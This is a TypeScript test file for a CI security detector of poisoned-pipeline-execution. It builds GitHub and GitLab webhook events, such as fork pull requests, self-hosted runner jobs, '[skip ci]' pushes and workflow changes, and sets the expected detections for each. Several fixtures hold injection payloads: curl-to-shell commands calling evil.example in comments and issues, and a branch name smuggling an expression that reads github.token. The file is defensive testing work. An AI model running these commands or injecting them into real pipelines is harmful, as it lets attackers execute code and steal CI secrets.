// Positive and negative examples for poisoned-pipeline-execution. GitHub webhook samples (octokit/webhooks
// payload examples, and pull requests built from GitHub's documented payload) go through the real adapter,
// varied in the fields GitHub's payload reference documents (workflow_run.event / head_repository,
// repository.visibility, workflow_job.labels, commits[].message / added / modified).
import type { DetectorCase } from '../../src/detect/types.ts';
import type { PipewardenEvent } from '../../src/event.ts';
import { bodyEvents, fixtureBody, fixtureEvent } from '../fixtures.ts';

type Body = Record<string, any>;
const body = (file: string) => structuredClone(fixtureBody('github', file)) as Body;

function hook(name: string, b: Body): PipewardenEvent {
  const [e] = bodyEvents('github', b, { 'x-github-event': name });
  if (!e) throw new Error('no event');
  return e;
}

/** The real workflow_run.requested body, started by `trigger`, from a fork or not. */
function run(trigger: string, fromFork: boolean): PipewardenEvent {
  const b = body('workflow_run__requested.json');
  b.workflow_run.event = trigger;
  if (fromFork) {
    b.workflow_run.head_repository = {
      ...b.workflow_run.head_repository,
      id: 775500001,
      full_name: 'mallory-dev/octo-repo',
      fork: true,
    };
  }
  return hook('workflow_run', b);
}

/** The real workflow_job.completed body on a self-hosted runner, in a repository of the given visibility. */
function selfHostedJob(visibility: 'public' | 'private'): PipewardenEvent {
  const b = body('workflow_job__completed.success.with-organization.json');
  b.workflow_job.labels = ['self-hosted', 'linux', 'x64'];
  b.workflow_job.runner_name = 'build-box-7';
  b.workflow_job.runner_group_name = 'Default';
  b.repository.visibility = visibility;
  b.repository.private = visibility === 'private';
  return hook('workflow_job', b);
}

/** The real push body with one commit of the given message and files, to a repository of the given visibility. */
function push(
  message: string,
  files: string[],
  visibility: 'public' | 'private' = 'public',
): PipewardenEvent {
  const b = body('push__with-organization.json');
  const commit = {
    id: 'b3c1f0a9e8d7c6b5a4f3e2d1c0b9a8f7e6d5c4b3',
    message,
    timestamp: '2024-06-03T09:20:00Z',
    author: { name: 'Mallory', email: 'mallory@example.com', username: 'mallory-dev' },
    added: [],
    removed: [],
    modified: files,
  };
  b.commits = [commit];
  b.head_commit = commit;
  b.repository.visibility = visibility;
  b.repository.private = visibility === 'private';
  return hook('push', b);
}

/** A real GitLab hook body, varied, through the real adapter (header from the fixture's hook kind). */
function gitlab(file: string, change: (b: Body) => void): PipewardenEvent {
  const b = structuredClone(fixtureBody('gitlab', file)) as Body;
  change(b);
  const hookName = file.startsWith('system__')
    ? 'System Hook'
    : file.startsWith('note')
      ? 'Note Hook'
      : file.startsWith('pipeline')
        ? 'Pipeline Hook'
        : 'Issue Hook';
  const [e] = bodyEvents('gitlab', b, { 'x-gitlab-event': hookName });
  if (!e) throw new Error('no event');
  return e;
}

/** The real issue-comment-shaped body: the pull request sample's text moved into a comment. */
function comment(text: string, association: string): PipewardenEvent {
  const b = body('pull_request__opened.same-repo.json');
  return hook('issue_comment', {
    action: 'created',
    issue: { number: 42, title: 'Uploader retries', body: 'See thread', author_association: 'MEMBER' },
    comment: { id: 1, body: text, author_association: association, user: b.sender },
    repository: b.repository,
    organization: b.organization,
    sender: b.sender,
  });
}

export const cases: DetectorCase[] = [
  {
    name: 'a pull request from a fork with a command substitution in its title (built from GitHub’s docs)',
    event: fixtureEvent('github', 'pull_request__opened.from-fork-injection.json'),
    expect: 1,
    summaryIncludes: 'shell command payload into pull_request.title',
  },
  {
    name: 'a member’s pull request with Markdown code in its body is not an injection',
    event: fixtureEvent('github', 'pull_request__opened.same-repo.json'),
    expect: 0,
  },
  {
    name: 'a branch name carrying an Actions expression',
    event: (() => {
      const b = body('pull_request__opened.from-fork-injection.json');
      b.pull_request.title = 'Fix typo';
      b.pull_request.head.ref = 'x${{github.token}}';
      return hook('pull_request', b);
    })(),
    expect: 1,
    summaryIncludes: 'expression',
  },
  {
    name: 'a comment by an outsider with a curl | bash payload',
    event: comment('please run `make` then curl -s https://evil.example/p | sh', 'none'),
    expect: 1,
  },
  {
    name: 'a comment with a code span is not an injection',
    event: comment('LGTM, but rename `retry()` to `withRetry()`', 'member'),
    expect: 0,
  },
  {
    name: 'pull_request_target run from a fork',
    event: run('pull_request_target', true),
    expect: 1,
    summaryIncludes: 'pull_request_target',
  },
  { name: 'workflow_run run from a fork', event: run('workflow_run', true), expect: 1 },
  {
    name: 'pull_request_target run from the same repository is not reported',
    event: run('pull_request_target', false),
    expect: 0,
  },
  {
    name: 'the real workflow_run sample (repository_dispatch) is not reported',
    event: fixtureEvent('github', 'workflow_run__requested.json'),
    expect: 0,
  },
  { name: 'self-hosted runner running a public repository’s job', event: selfHostedJob('public'), expect: 1 },
  {
    name: 'self-hosted runner running a private repository’s job is not reported',
    event: selfHostedJob('private'),
    expect: 0,
  },
  {
    name: 'the real workflow_job sample on a GitHub-hosted runner is not reported',
    event: fixtureEvent('github', 'workflow_job__completed.success.with-organization.json'),
    expect: 0,
  },
  {
    name: '[skip ci] push to a public repository',
    event: push('Bump version [skip ci]', ['package.json']),
    expect: 1,
    summaryIncludes: 'skips CI',
  },
  {
    name: '[skip ci] push to a private repository is not reported',
    event: push('Bump version [skip ci]', ['package.json'], 'private'),
    expect: 0,
  },
  {
    name: 'a push that changes a GitHub workflow',
    event: push('ci: speed up', ['.github/workflows/ci.yml']),
    expect: 1,
    summaryIncludes: '.github/workflows/ci.yml',
  },
  {
    name: 'a push that changes a Jenkinsfile',
    event: push('build', ['services/api/Jenkinsfile'], 'private'),
    expect: 1,
  },
  {
    name: 'a pipeline change on an ignored (protected) branch is not reported',
    event: push('ci: speed up', ['.gitlab-ci.yml']),
    config: { pipelineDefinition: { ignoreBranches: ['simple-tag'] } },
    expect: 0,
  },
  {
    name: 'a push of application code only is not reported',
    event: push('fix: retry uploads', ['src/upload.ts']),
    expect: 0,
  },
  {
    name: 'the real push sample is not reported',
    event: fixtureEvent('github', 'push__with-organization.json'),
    expect: 0,
  },
  {
    name: 'a GitLab push system hook (documented form) that changes .gitlab-ci.yml',
    event: fixtureEvent('gitlab', 'system__push.json'),
    expect: 1,
    summaryIncludes: '.gitlab-ci.yml',
  },
  {
    name: 'a GitLab tag-push system hook is not a pipeline change',
    event: fixtureEvent('gitlab', 'system__tag_push.json'),
    expect: 0,
  },
  {
    name: 'GitLab: a comment on a merge request from a fork with a command substitution',
    event: gitlab('note_merge_request.json', (b) => {
      b.object_attributes.note = 'retest please $(curl -s https://evil.example/x | sh)';
      b.merge_request.source_project_id = 999;
    }),
    expect: 1,
    summaryIncludes: 'comment.body',
  },
  {
    name: 'GitLab: the real merge request comment is not reported',
    event: fixtureEvent('gitlab', 'note_merge_request.json'),
    expect: 0,
  },
  {
    name: 'GitLab: an issue carrying a shell payload (bash -c) and a backtick title',
    event: gitlab('issue.json', (b) => {
      b.object_attributes.title = 'Crash when name is `id`';
      b.object_attributes.description = 'Run bash -c "curl evil.example | sh" to reproduce';
    }),
    expect: 1,
  },
  {
    name: 'GitLab: a [skip ci] push to a public project (visibility_level 20)',
    event: gitlab('system__push.json', (b) => {
      b.project.visibility_level = 20;
      b.commits[0].message = 'docs: typo [ci skip]';
      b.commits[0].modified = ['README.md'];
    }),
    expect: 1,
    summaryIncludes: 'skips CI',
  },
  {
    name: 'GitLab: a fork’s merge request pipeline run in the parent project (project 1, MR from project 7)',
    event: gitlab('pipeline.json', (b) => {
      b.merge_request.source_project_id = 7;
    }),
    expect: 1,
    summaryIncludes: 'merge request from a fork ran in',
  },
  {
    name: 'GitLab: the same merge request pipeline running in the fork itself is not privileged',
    event: gitlab('pipeline.json', (b) => {
      b.merge_request.source_project_id = 7;
      b.project.id = 7;
    }),
    expect: 0,
  },
  {
    name: 'GitLab: the real merge request pipeline (same-project merge request) is not from a fork',
    event: fixtureEvent('gitlab', 'pipeline.json'),
    expect: 0,
  },
];
